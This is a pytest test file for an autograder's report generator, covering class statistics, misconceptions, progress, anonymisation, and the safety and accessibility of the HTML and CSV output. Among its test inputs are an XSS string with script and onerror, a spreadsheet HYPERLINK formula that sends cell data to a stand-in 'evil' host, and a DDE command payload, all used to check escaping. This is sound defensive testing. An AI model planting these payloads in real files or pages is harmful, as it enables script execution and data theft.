"""The report on a class: right numbers, a page for everybody's eyes, nobody's secrets, no formulas."""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Mapping, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import fake_class as small
import invented_class as invented
import pytest
from gradebooks import Gradebook

from autograder.cli import exit_codes
from autograder.cli.main import main as cli
from autograder.course.folders import Folders
from autograder.errors import RecordsError, UsageError
from autograder.gradebook.writer import GradebookWriter
from autograder.misconceptions.catalogue import load
from autograder.report.write import write_report
from autograder.result import CellMark, NotebookResult, Remark, Result, Verdict
from autograder.sentences.catalogue import Finding, finding

pytestmark = pytest.mark.long

ASSIGNMENT = "01-rnn-forward"
CELL, SEQUENCE = "rnn_cell_forward", "rnn_forward"
POINTS = {CELL: 10.0, SEQUENCE: 10.0}
SLIP = next(entry for entry in load(ASSIGNMENT) if entry.exercise == CELL)
EVIL = "</code></td><script>alert('Mallory')</script><img src=x onerror=alert(1)> =1+1"


@pytest.fixture
def course(tmp_path: Path) -> Path:
    return make_course(tmp_path / "course")


def make_course(root: Path) -> Path:
    small.make_course(root)
    small.write_source(root, small.source_notebook(POINTS), ASSIGNMENT)
    return root


class Marker:
    """Puts results into the gradebook as if the examiner had found them."""

    def __init__(self, course: Path, assignment: str = ASSIGNMENT, points: dict[str, float] = POINTS) -> None:
        self.course, self.assignment, self.points = course, assignment, points

    def mark(
        self,
        student: str,
        scores: dict[str, float],
        reasons: Mapping[str, str | Sequence[Finding]] | None = None,
        remarks: tuple[Remark, ...] = (),
        answers: dict[str, str] | None = None,
        walls: str = "namespaces",
    ) -> None:
        folder = small.submit(self.course, student, self.assignment)
        notebook = small.source_notebook(self.points)
        for cell in notebook.cells:
            if cell.id.endswith("-answer"):
                name = cell.id.removesuffix("-answer")
                cell.source = (answers or {}).get(name, f"def {name}(x):\n    return 4 * x")
        marks = tuple(
            CellMark(
                f"{name}-grade",
                worth,
                scores[name],
                verdict(scores[name], worth),
                found((reasons or {}).get(name, ())),
            )
            for name, worth in self.points.items()
        )
        digests = {"submission": student, "exam": "1", "autograder": "1"}
        notebooks = (NotebookResult(self.assignment, marks, notebook),)
        result = Result(self.assignment, student, notebooks, remarks, walls=walls, digests=digests)
        with GradebookWriter(Folders.of(self.course)) as writer:
            writer.prepare(self.assignment, "1")
            writer.write(result, folder, [finding("marking.not-marked-before")])


def found(what: str | Sequence[Finding]) -> tuple[Finding, ...]:
    """Findings; a text stands for the one in which a test says it."""
    return (finding("examiner.test-says", text=what),) if isinstance(what, str) else tuple(what)


def remark(kind: str, text: str, grade_id: str | None = None) -> Remark:
    return Remark(kind, finding("earlier.reason", text=text), grade_id)


def wrong_numbers(exercise: str, name: str, count: int, hint: Finding) -> list[Finding]:
    """The findings of `check` where numbers are those of a slip."""
    numbers = finding("check.wrong-numbers", name=name, count=count, size=200, largest="0.5")
    return [finding("check.wrong", exercise=exercise, problem=numbers), finding("check.hint", hint=hint)]


def verdict(score: float, worth: float) -> Verdict:
    return "passed" if score >= worth else "partial" if score else "failed"


def report(course: Path, *assignments: str, **options: Any) -> Path:
    """Write the report; the folder it is in."""
    return write_report(Folders.of(course), assignments, **options)[0].parent


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def marked_class(course: Path) -> Marker:
    """Six students, all the things that a report talks about."""
    marker = Marker(course)
    slip = finding("slip", slip=SLIP.name, hint=SLIP.hint)
    called = wrong_numbers(SEQUENCE, "a", 50, finding("check.elsewhere", exercise=CELL, hint=slip))
    marker.mark("ada", {CELL: 10, SEQUENCE: 10})
    marker.mark(
        "bob", {CELL: 0, SEQUENCE: 0}, {CELL: wrong_numbers(CELL, "yt_pred", 50, slip), SEQUENCE: called}
    )
    marker.mark("cem", {CELL: 0, SEQUENCE: 10}, {CELL: wrong_numbers(CELL, "yt_pred", 60, slip)})
    marker.mark(
        "dee", {CELL: 10, SEQUENCE: 0},
        {SEQUENCE: f"{SEQUENCE}: the function is not written yet (write the body of this function here)"},
        answers={SEQUENCE: f'def {SEQUENCE}(x):\n    """Text."""\n    raise NotImplementedError("write")'},
    )  # fmt: skip
    marker.mark(
        "eve", {CELL: 10, SEQUENCE: 0}, {SEQUENCE: f"{SEQUENCE}: the function stopped with KeyError: {EVIL}"}
    )
    marker.mark(
        "fay", {CELL: 0, SEQUENCE: 0},
        remarks=(remark("broken-notebook", f"{ASSIGNMENT}.ipynb is truncated; it gets no marks."),),
    )  # fmt: skip
    return marker


# Numbers


def test_numbers_of_exercises(course: Path) -> None:
    marked_class(course)
    cell, sequence = rows(report(course) / "exercises.csv")
    # Five submissions could be examined: 10 0 0 10 10 and 10 0 10 0 0.
    assert (cell["submissions"], cell["mean"], cell["difficulty"]) == ("5", "6.0", "0.6")
    assert (sequence["mean"], sequence["difficulty"]) == ("4.0", "0.4")
    # Means 6 and 4, products of deviations 24 + 24 - 36 - 16 - 16 = -20, sums of squares 120 and 120.
    assert float(cell["discrimination"]) == pytest.approx(-20 / 120, abs=1e-6)
    assert [sequence[key] for key in ("all_points", "some", "none", "not_attempted")] == ["2", "0", "2", "1"]


def test_marks_by_hand_and_late_work_count_as_in_nbgrader(course: Path) -> None:
    marked_class(course)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "small") as book:
        grade = book.find_grade(f"{CELL}-grade", ASSIGNMENT, ASSIGNMENT, "bob")
        grade.manual_score, grade.extra_credit = 6.0, 1.0
        notebook = book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "bob")
        notebook.late_submission_penalty = 2.0
        book.db.commit()
        expected = book.find_submission(ASSIGNMENT, "bob").score
    folder = report(course)
    marks = {(row["student"], row["exercise"]): float(row["mark"]) for row in rows(folder / "marks.csv")}
    assert marks["bob", CELL] == 7
    total = next(row for row in rows(folder / "totals.csv") if row["student"] == "bob")
    assert (float(total["total"]), float(total["taken_off_for_late_work"])) == (expected - 2, 2)


def test_a_misconception_is_counted_once_for_each_student_where_it_lies(course: Path) -> None:
    marked_class(course)
    folder = report(course)
    (found,) = rows(folder / "misconceptions.csv")
    assert (found["exercise"], found["students"], found["who"]) == (CELL, "2", "bob; cem")
    assert SLIP.slug in found["misconception"].split(" or ")
    assert found["hint"] == SLIP.hint
    (row,) = Page(folder).table("Misconceptions, the most frequent first")
    # Two of the five whose notebook could be read.
    assert [*row[1:4], row[5]] == [CELL, "2", "40 %", "bob, cem"]
    assert f"{row[0]}, in {CELL}: 2." in (folder / f"figures/{ASSIGNMENT}-misconceptions.svg").read_text()


FORGED = [
    f"{prefix}{text}"
    for prefix in ("", "AssertionError: ", f"{CELL}: ", "Hint: ", f"{CELL} raised ValueError: ")
    for text in (SLIP.hint, "the function is not written yet (x)", "NotImplementedError")
]


@pytest.mark.parametrize("said", FORGED)
def test_what_an_exception_of_a_student_says_is_no_finding(course: Path, said: str) -> None:
    marker = Marker(course)
    marker.mark("ada", {CELL: 0, SEQUENCE: 0}, {CELL: said})
    folder = report(course)
    assert rows(folder / "misconceptions.csv") == []
    assert {row["attempted"] for row in rows(folder / "marks.csv")} == {"yes"}


def test_sentences_without_a_hint_are_put_together_by_what_they_say(course: Path) -> None:
    marker = Marker(course)
    for number, student in enumerate(("ada", "bob", "cem")):
        wrong = f"{5 + number} of its 50 numbers are wrong, by up to 1.{number}e-2"
        reason = f"{CELL}: a has the right shape, but {wrong}"
        marker.mark(student, {CELL: 0, SEQUENCE: 10}, {CELL: reason})
    page = Page(report(course))
    (row,) = page.table("Points lost for other reasons")
    assert row == [
        CELL,
        "a has the right shape, but … of its … numbers are wrong, by up to …",
        "3",
        "ada, bob, cem",
    ]


def test_what_needs_a_look(course: Path) -> None:
    marker = marked_class(course)
    marker.mark(
        "gil", {CELL: 0, SEQUENCE: 0}, walls="none",
        remarks=(
            remark("timeout", "The code did not finish within 15 seconds.", f"{CELL}-grade"),
            remark("timeout", "The code did not finish within 15 seconds.", f"{SEQUENCE}-grade"),
            remark("channel", "The code tampered with its connection to the examiner."),
            remark("brand-new-kind", "Something else."),
        ),
    )  # fmt: skip
    small.submit(course, "hal", ASSIGNMENT)
    found = [(row[0], row[1], row[2]) for row in Page(report(course)).table("What happened")]
    assert found == [
        ("gil", "tampered with the examiner", ""),
        ("fay", "notebook cannot be read", ""),
        ("gil", "took too long", f"{CELL}, {SEQUENCE}"),
        ("gil", "examined without a sandbox", ""),
        ("hal", "handed in, not marked yet", ""),
        ("gil", "brand-new-kind", ""),
    ]


@pytest.mark.parametrize("size", [1, 2, 3])
def test_small_classes(course: Path, size: int) -> None:
    marker = Marker(course)
    for number in range(size):
        marker.mark(f"s{number}", {CELL: 10.0 * (number % 2), SEQUENCE: 10})
    folder = report(course)
    assert all(row["discrimination"] == "" for row in rows(folder / "exercises.csv"))
    assert "uncertain" in (folder / "report.html").read_text()


def test_a_class_in_which_nothing_could_be_read(course: Path) -> None:
    marker = Marker(course)
    marker.mark("ada", {CELL: 0, SEQUENCE: 0}, remarks=(remark("missing-notebook", "It is missing."),))
    folder = report(course)
    assert [row["difficulty"] for row in rows(folder / "exercises.csv")] == ["", ""]
    assert not list(folder.glob("figures/*"))


def test_one_exercise_and_several_assignments(course: Path) -> None:
    marked_class(course)
    small.write_source(course, small.source_notebook({"double": 4.0}), "02-only")
    marker = Marker(course, "02-only", {"double": 4.0})
    for student, score in (("ada", 4.0), ("bob", 2.0), ("cem", 0.0), ("dee", 4.0)):
        marker.mark(student, {"double": score})
    page = Page(report(course))
    assert [row[:4] for row in page.table("Assignments")] == [
        [ASSIGNMENT, "6", "20", "10.0"],
        ["02-only", "4", "4", "2.5"],
    ]
    assert rows(page.folder / "exercises.csv")[2]["some"] == "1"
    assert {row["assignment"] for row in rows(report(course, "02-only") / "marks.csv")} == {"02-only"}


def test_marks_of_stock_nbgrader_are_reported_too(course: Path) -> None:
    """No records of ours, no notes in the notebooks: marks and statistics all the same."""
    small.submit(course, "ada", ASSIGNMENT)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "small") as book:
        book.update_or_create_assignment(ASSIGNMENT)
        book.add_notebook(ASSIGNMENT, ASSIGNMENT)
        for name in POINTS:
            book.add_grade_cell(f"{name}-grade", ASSIGNMENT, ASSIGNMENT, max_score=10, cell_type="code")
        book.add_student("ada", first_name="Ada", last_name="Lovelace")
        book.add_student("bob")
        book.add_submission(ASSIGNMENT, "ada")
        book.find_grade(f"{CELL}-grade", ASSIGNMENT, ASSIGNMENT, "ada").auto_score = 10
        book.db.commit()
    page = Page(report(course))
    assert page.table("Marks")[0][:4] == ["Ada Lovelace (ada)", "10", "10", "0"]
    assert "1 of 2 students have handed in nothing: bob." in page.text


@pytest.mark.parametrize(
    "notebook",
    [
        "", "[" * 100_000, "[]", '{"cells": 7}', '{"cells": [7, {}, {"metadata": []}]}',
        '{"cells": [{"metadata": {"nbgrader": {"grade": true, "grade_id": 3}, "autograder": [1]}}]}',
        '{"cells": [{"metadata": {"nbgrader": {"grade": 1}, "autograder": {"reason": ["b"]}}, "source": 1}]}',
        '{"cells": [{"metadata": {"nbgrader": {"grade": 1}, "autograder": {"findings": [{"id": "slip"}]}}}]}',
        '{"cells": [{"cell_type": "code", "metadata": {"nbgrader": 5}, "source": [1, "\\ud800"]}]}',
    ],
    ids=[
        "empty", "deep", "list", "no-cells", "odd-cells", "odd-note", "odd-reason", "odd-finding",
        "odd-source",
    ],
)  # fmt: skip
def test_a_strange_notebook_in_autograded_does_no_harm(course: Path, notebook: str) -> None:
    """The file that stock nbgrader leaves there is the student's own."""
    marked_class(course)
    path = course / "autograded" / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    path.unlink()
    path.write_text(notebook)
    marks = Page(report(course)).table("Marks")
    assert [row[1] for row in marks if row[0] == "eve"] == ["10"]


# Progress


def test_progress_against_the_report_before(course: Path) -> None:
    marker = marked_class(course)
    assert "no earlier report" in Page(report(course)).text
    marker.mark("bob", {CELL: 10, SEQUENCE: 0})
    marker.mark("gil", {CELL: 10, SEQUENCE: 10})
    for _ in range(2):  # a report without new marks in between changes nothing
        page = Page(report(course))
        assert page.table("Share of points, earlier and now")[0] == [CELL, "50 %", "67 %", "+17"]
        assert page.table("Students whose total is not what it was") == [["bob", "0", "10"]]
        assert "6 students in both, 1 with more points now, 0 with fewer, 5 with the same." in page.text
        assert "1 handed in since then." in page.text
    assert len(list((page.folder / "earlier").iterdir())) == 1
    assert page.table("Marks that a later run changed")[0][:3] == ["bob", CELL, "0 → 10"]


def test_progress_against_a_given_report(course: Path, tmp_path: Path) -> None:
    marker = marked_class(course)
    first = report(course, to=tmp_path / "first") / "marks.csv"
    marker.mark("ada", {CELL: 0, SEQUENCE: 10})
    page = Page(report(course, to=tmp_path / "second", earlier=first))
    assert page.table("Students whose total is not what it was") == [["ada", "20", "10"]]
    with pytest.raises(UsageError, match=r"totals\.csv is not the marks\.csv of an earlier report"):
        report(course, earlier=tmp_path / "first" / "totals.csv")


# Similar submissions


def test_similar_submissions_are_shown_side_by_side(course: Path) -> None:
    answers = {student: own[invented_name] for student, own in invented.honest_class(6, seed=1).items()
               for invented_name in own}  # fmt: skip
    answers["s005"] = invented.disguised(answers["s001"]).replace("# step 3", f"# {EVIL}")
    marker = Marker(course)
    for student, source in answers.items():
        marker.mark(student, {CELL: 10, SEQUENCE: 10}, answers={CELL: source})
    page = Page(report(course))
    assert [row[:2] for row in page.table("Pairs, the most alike first")] == [["s001 and s005", CELL]]
    assert [(row["first"], row["second"]) for row in rows(page.folder / "similar.csv")] == [("s001", "s005")]
    assert "<script" not in page.html


# The page


class Page(HTMLParser):
    """The parts of the page that a reader, a screen reader and a browser find."""

    def __init__(self, folder: Path) -> None:
        super().__init__()
        self.folder, self.html = folder, (folder / "report.html").read_text(encoding="utf-8")
        self.headings: list[int] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.tables: dict[str, list[list[str]]] = {}
        self._words: list[str] = []
        self._stack: list[str] = []
        self._caption = ""
        self.feed(self.html)
        self.close()
        self.text = " ".join(" ".join(self._words).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._stack.append(tag)
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))
        if tag == "caption":
            self._caption = ""
        if tag == "tr" and "tbody" in self._stack:
            self.tables[self._caption].append([])
        if tag in ("td", "th") and "tbody" in self._stack:
            self.tables[self._caption][-1].append("")

    def handle_endtag(self, tag: str) -> None:
        while self._stack and self._stack.pop() != tag:
            pass
        if tag == "caption":
            self.tables[self._caption] = []

    def handle_data(self, data: str) -> None:
        if "style" in self._stack:
            return
        self._words.append(data)
        if "caption" in self._stack:
            self._caption += data
        elif "tbody" in self._stack and self._stack[-1] in ("td", "th"):
            self.tables[self._caption][-1][-1] += data

    def table(self, caption: str) -> list[list[str]]:
        return self.tables[caption]


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> list[Page]:
    """The page with names and the one without, with something in every section."""
    course = make_course(tmp_path_factory.mktemp("pages") / "course")
    marker = marked_class(course)
    report(course)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "small") as book:
        book.update_or_create_student("eve", first_name="<script>Eve", last_name="Mallory")
    copied = invented.answer(invented.random.Random(1))
    for student in ("ada", "bob"):
        marker.mark(student, {CELL: 10, SEQUENCE: 10}, answers={CELL: copied})
    return [Page(report(course)), Page(report(course, anonymous=True))]


def test_headings_are_in_order(pages: list[Page]) -> None:
    for page in pages:
        assert page.headings[0] == 1
        assert page.headings.count(1) == 1
        assert all(b <= a + 1 for a, b in zip(page.headings, page.headings[1:], strict=False))


def test_tables_have_captions_and_header_cells(pages: list[Page]) -> None:
    for page in pages:
        counts = Counter(tag for tag, _ in page.elements)
        assert counts["table"] == counts["caption"] == counts["thead"] > 3
        assert all(
            attributes.get("scope") in ("row", "col") for tag, attributes in page.elements if tag == "th"
        )
        scopes = Counter(attributes["scope"] for tag, attributes in page.elements if tag == "th")
        assert scopes["row"] == sum(len(table) for table in page.tables.values())


def test_figures_have_descriptions(pages: list[Page]) -> None:
    for page in pages:
        figures = [attributes for tag, attributes in page.elements if tag == "svg"]
        ids = {attributes["id"] for _, attributes in page.elements if "id" in attributes}
        assert len(figures) == 3
        for figure in figures:
            assert figure["role"] == "img"
            assert set(str(figure["aria-labelledby"]).split()) <= ids
        assert f"{CELL}: all points" in page.html


def test_ids_are_unique_and_links_lead_somewhere(pages: list[Page]) -> None:
    for page in pages:
        ids = Counter(attributes["id"] for _, attributes in page.elements if "id" in attributes)
        assert set(ids.values()) == {1}
        links = [attributes["href"] for tag, attributes in page.elements if tag == "a"]
        assert {str(link)[1:] for link in links} <= ids.keys()
        assert dict(page.elements)["html"] == {"lang": "en"}


def test_the_page_needs_nothing_else_and_runs_nothing(pages: list[Page]) -> None:
    for page in pages:
        tags = {tag for tag, _ in page.elements}
        assert not tags & {"script", "img", "link", "iframe", "object", "base", "form", "audio", "video"}
        for tag, attributes in page.elements:
            assert not [name for name in attributes if name.startswith("on") or name in ("src", "style")]
            assert tag == "a" or "href" not in attributes
        assert "default-src 'none'" in page.html
        assert set(re.findall(r"https?://[^\"' <]+", page.html)) == {"http://www.w3.org/2000/svg"}
        assert not re.search(r"url\((?!#)|@import", page.html)


def test_what_students_wrote_is_shown_and_nothing_more(pages: list[Page]) -> None:
    named, _ = pages
    assert "alert('Mallory')" in named.text  # as text
    assert "<script>Eve Mallory (eve)" in named.text
    assert "<script" not in named.html


def test_figures_are_files_as_well(pages: list[Page]) -> None:
    for page in pages:
        files = sorted(path.name for path in page.folder.glob("figures/*"))
        assert files == [f"{ASSIGNMENT}-{kind}.svg" for kind in ("exercises", "marks", "progress")]
        for path in page.folder.glob("figures/*"):
            root = ElementTree.parse(path).getroot()
            assert root.tag == "{http://www.w3.org/2000/svg}svg"
            assert root.find("{http://www.w3.org/2000/svg}desc") is not None


def test_without_names_there_is_nobody_in_any_file(pages: list[Page]) -> None:
    _, page = pages
    files = [path for path in page.folder.rglob("*") if path.is_file()]
    assert {path.name for path in files if path.suffix == ".csv"} == {
        "exercises.csv", "misconceptions.csv", "distribution.csv",
    }  # fmt: skip
    for path in files:
        text = path.read_text(encoding="utf-8")
        for secret in (
            "Mallory",
            "alert",
            "KeyError",
            *(f"{s}" for s in ("ada", "bob", "cem", "dee", "eve", "fay")),
        ):
            assert not re.search(rf"\b{secret}\b", text), (path, secret)
    assert SLIP.hint.split(".")[0] in page.text
    assert f"Points lost for other reasons: 1 student in {SEQUENCE}." in page.text
    assert page.table("What happened") == [["notebook cannot be read", "1"]]


def test_names_do_not_get_mixed_up_with_a_page_without(course: Path) -> None:
    marked_class(course)
    folder = report(course)
    with pytest.raises(UsageError, match="with names"):
        report(course, to=folder, anonymous=True)


def test_no_cell_of_a_table_is_a_formula(course: Path) -> None:
    marker = Marker(course)
    formula = '=HYPERLINK("http://evil"&A1,"x")'
    marker.mark("=1+1", {CELL: 0, SEQUENCE: 0}, {CELL: formula, SEQUENCE: "fine, but;=2+2"})
    marker.mark("@SUM(A1)", {CELL: 10, SEQUENCE: 0}, remarks=(remark("died", "+cmd|' /C calc'!A0"),))
    marker.mark("-2+3", {CELL: 0, SEQUENCE: 10}, {CELL: "\t=1"})
    folder = report(course)
    cells = []
    for path in sorted(folder.glob("*.csv")):
        for separator in (",", ";", "\t"):  # whatever a spreadsheet takes for the separator
            with path.open(encoding="utf-8", newline="") as file:
                cells += [cell for row in csv.reader(file, delimiter=separator) for cell in row]
    numbers = re.compile(r"-?\d+(\.\d+)?(,.*)?", re.DOTALL)
    assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@") and not numbers.fullmatch(cell)]
    assert any(cell == f"'{formula}" or formula in cell for cell in cells)


# The command


def test_the_command(course: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marked_class(course)
    assert cli(["report", "--course", str(course), ASSIGNMENT]) == exit_codes.DONE
    assert str(course / "report" / "report.html") in capsys.readouterr().out
    assert cli(["report", "--course", str(course), "--anonymous"]) == exit_codes.DONE
    assert (course / "report-anonymous" / "report.html").is_file()


def test_nothing_marked(course: Path) -> None:
    with pytest.raises(RecordsError, match="no gradebook"):
        report(course)
    assert not (course / "gradebook.db").exists()
    marked_class(course)
    with pytest.raises(RecordsError, match="Nothing of 09-none is in the gradebook"):
        report(course, "09-none")


# Answers that need a look


def test_a_numerical_derivative_needs_a_look_and_costs_nothing(tmp_path: Path) -> None:
    points = {"gru_backward": 10.0}
    root = small.make_course(tmp_path / "course")
    small.write_source(root, small.source_notebook(points), ASSIGNMENT)
    marker = Marker(root, points=points)
    complex_step = "def gru_backward(x):\n    return gru_forward(x + 1e-20j).imag / 1e-20"
    marker.mark("ada", {"gru_backward": 10}, answers={"gru_backward": complex_step})
    marker.mark(
        "bob", {"gru_backward": 10}, answers={"gru_backward": "def gru_backward(x):\n    return 4 * x"}
    )
    folder = report(root)
    (entry,) = rows(folder / "attention.csv")
    assert (entry["student"], entry["kind"], entry["exercise"]) == ("ada", "shortcut", "gru_backward")
    assert "gru_forward and works with complex numbers (1e-20j and imag)" in entry["text"]
    assert [row["mark"] for row in rows(folder / "marks.csv")] == ["10.0", "10.0"]
    page = (folder / "report.html").read_text()
    assert "needs a look" in page and "1e-20j" in page
    anonymous = (report(root, anonymous=True) / "report.html").read_text()
    assert "needs a look" in anonymous and "1e-20j" not in anonymous
